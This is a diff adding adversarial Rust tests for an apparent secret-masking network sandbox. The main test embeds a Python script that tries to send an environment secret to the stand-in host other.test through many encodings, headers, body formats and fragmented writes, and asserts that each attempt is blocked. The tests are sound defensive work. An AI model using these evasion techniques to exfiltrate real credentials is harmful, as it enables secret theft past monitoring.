@@ -132,6 +132,32 @@ fn adv_c03_an_answer_that_gives_the_secret_back_is_masked() {
 }
 
 #[test]
+fn adv_c03_an_answer_that_escapes_a_few_signs_of_the_secret_is_masked_too() {
+    for who in EVERYONE {
+        let world = World::new(who);
+        // As writers of JSON and of forms do that escape what others leave as it is.
+        let escapes = |request: &crate::world::Request| {
+            let key = request.field("x-key").unwrap_or_default();
+            let told = match request.path() {
+                "/json" => key.replace('/', "\\u002f").replace('+', "\\u002B"),
+                "/form" => key.replace('~', "%7E").replace('/', "%2f"),
+                _ => key.to_owned(),
+            };
+            crate::world::answer("200 OK", &format!("x-told: {told}\r\n"), format!("<{told}>").as_bytes())
+        };
+        let _server = world.answering(443, &["site.test"], std::sync::Arc::new(escapes));
+        let script = "for kind in plain json form; do curl -fsSi -H \"x-key: $MY_KEY\" https://site.test/$kind; echo; done";
+        let said = run(&world, &[], script).ok();
+        let bodies: Vec<&str> = said.out.lines().filter(|line| line.starts_with('<')).collect();
+        assert_eq!(bodies.len(), 3, "{}", said.out);
+        for line in bodies {
+            assert!(line.trim_matches(['<', '>']).chars().all(|sign| sign == '*'), "{who:?} {}", said.out);
+        }
+        assert!(!said.out.contains("Qm9y") && !said.out.contains("MzQ1Njc4"), "{who:?} {}", said.out);
+    }
+}
+
+#[test]
 fn adv_c04_a_secret_with_a_line_end_is_not_lent() {
     for who in EVERYONE {
         let world = World::new(who);
@@ -143,5 +169,73 @@ fn adv_c04_a_secret_with_a_line_end_is_not_lent() {
         world
             .run_having(&[("MY_KEY", SECRET)], &["--secret", "MY_KEY"], "true")
             .tells("nothing says where it goes");
+    }
+}
+
+#[test]
+fn adv_c02_a_word_on_its_way_to_another_host_is_found_wherever_it_stands() {
+    let rules =
+        "[[rule]]\nhost = \"other.test\"\nmethods = [\"GET\", \"POST\", \"PUT\"]\npaths = [\"/**\"]\n";
+    for who in EVERYONE {
+        let world = World::new(who);
+        let server = world.https(PUBLIC, &["site.test", "other.test"]);
+        world.file("rules.toml", rules);
+        let script = "python3 - <<'X'
+import base64, json, os, socket, ssl, time, urllib.parse
+word = os.environ['MY_KEY']
+def send(*parts, pause=0.05):
+    s = ssl.create_default_context().wrap_socket(socket.create_connection(('other.test', 443), 5), server_hostname='other.test')
+    s.settimeout(5)
+    try:
+        for part in parts: s.sendall(part.encode() if isinstance(part, str) else part); time.sleep(pause if len(parts) > 1 else 0)
+        return s.recv(12)[9:].decode() or 'closed'
+    except OSError: return 'closed'
+def get(path, *fields): return send('GET %s HTTP/1.1\\r\\nHost: other.test\\r\\n%sConnection: close\\r\\n\\r\\n' % (path, ''.join(f + '\\r\\n' for f in fields)))
+def post(body, *fields):
+    body = body.encode() if isinstance(body, str) else body
+    head = 'POST /x HTTP/1.1\\r\\nHost: other.test\\r\\n%sContent-Length: %d\\r\\nConnection: close\\r\\n\\r\\n'
+    return send((head % (''.join(f + '\\r\\n' for f in fields), len(body))).encode() + body)
+each = ''.join('%%%02x' % ord(c) for c in word)
+some = word[:9] + '%%%02X' % ord(word[9]) + word[10:]
+half = len(word) // 2
+head = 'GET /x HTTP/1.1\\r\\nHost: other.test\\r\\n'
+multi = '--b\\r\\nContent-Disposition: form-data; name=\"f\"; filename=\"x\"\\r\\n\\r\\n' + word + '\\r\\n--b--\\r\\n'
+chunked = 'POST /x HTTP/1.1\\r\\nHost: other.test\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n'
+cases = {
+ 'path': get('/' + word), 'path, escaped': get('/' + each), 'path, partly escaped': get('/a/' + some),
+ 'query': get('/?k=' + word), 'query, escaped': get('/?k=' + each), 'name of a query': get('/?' + word + '=1'), 'query, partly escaped': get('/?k=' + some),
+ 'header': get('/', 'x-key: ' + word), 'header, within a word': get('/', 'x: a' + word + 'b'),
+ 'cookie': get('/', 'Cookie: a=1; k=' + word), 'referer': get('/', 'Referer: https://other.test/?' + each),
+ 'bearer': get('/', 'Authorization: Bearer ' + word), 'basic': get('/', 'Authorization: Basic ' + base64.b64encode(('u:' + word).encode()).decode()),
+ 'basic, as the user': get('/', 'Authorization: Basic ' + base64.b64encode((word + ':').encode()).decode()),
+ 'header, base 64 behind other bytes': get('/', 'x: ' + base64.b64encode(b'a' + word.encode()).decode()), 'header, base 64 behind two': get('/', 'x: ' + base64.b64encode(b'ab' + word.encode()).decode()),
+ 'header, base 16': get('/', 'x: ' + word.encode().hex().upper()),
+ 'json': post(json.dumps({'a': [{'k': word}]}), 'Content-Type: application/json'),
+ 'json, escaped': post('{\"k\":\"' + ''.join('\\\\u%04x' % ord(c) for c in word) + '\"}', 'Content-Type: application/json'),
+ 'form': post('a=1&k=' + urllib.parse.quote(word, safe=''), 'Content-Type: application/x-www-form-urlencoded'),
+ 'form, escaped': post('k=' + each, 'Content-Type: application/x-www-form-urlencoded'),
+ 'a file of a form': post(multi, 'Content-Type: multipart/form-data; boundary=b'),
+ 'bytes': post(b'\\0\\1' + word.encode() + b'\\xff', 'Content-Type: application/octet-stream'),
+ 'base 64': post(base64.b64encode(b'{\"k\":\"' + word.encode() + b'\"}')),
+ 'backwards': post(word[::-1]),
+ 'head in pieces': send(head + 'x: ' + word[:half], word[half:] + '\\r\\n\\r\\n'),
+ 'head, letter by letter': send(head + 'x: ', *word, '\\r\\n\\r\\n', pause=0.002),
+ 'content in pieces': send('POST /x HTTP/1.1\\r\\nHost: other.test\\r\\nContent-Length: %d\\r\\n\\r\\n' % len(word), word[:half], word[half:]),
+}
+print('control', get('/plain'), post('plain'))
+# What has begun to go is broken off; fields behind content are looked at too.
+print(send(chunked, *['1\\r\\n' + c + '\\r\\n' for c in word], '0\\r\\n\\r\\n', pause=0.002) in ('closed', '403'))
+print(send(chunked, '1\\r\\na\\r\\n0\\r\\nx: ' + word + '\\r\\n\\r\\n'))
+for name, code in cases.items():
+    if code != '403': print(name, code)
+print(len(cases)); open('word', 'w').write(word)
+X";
+        let said = run(&world, &["--rules", "rules.toml"], script).ok();
+        assert_eq!(said.out, "control 200 200\nTrue\n403\n28\n", "{who:?} {}", said.err);
+        let word = std::fs::read_to_string(world.project().join("word")).unwrap();
+        for request in server.seen() {
+            let all = format!("{}{}", request.head, String::from_utf8_lossy(&request.body));
+            assert!(!all.contains(&word) && !all.contains(SECRET), "{who:?} {all}");
+        }
     }
 }
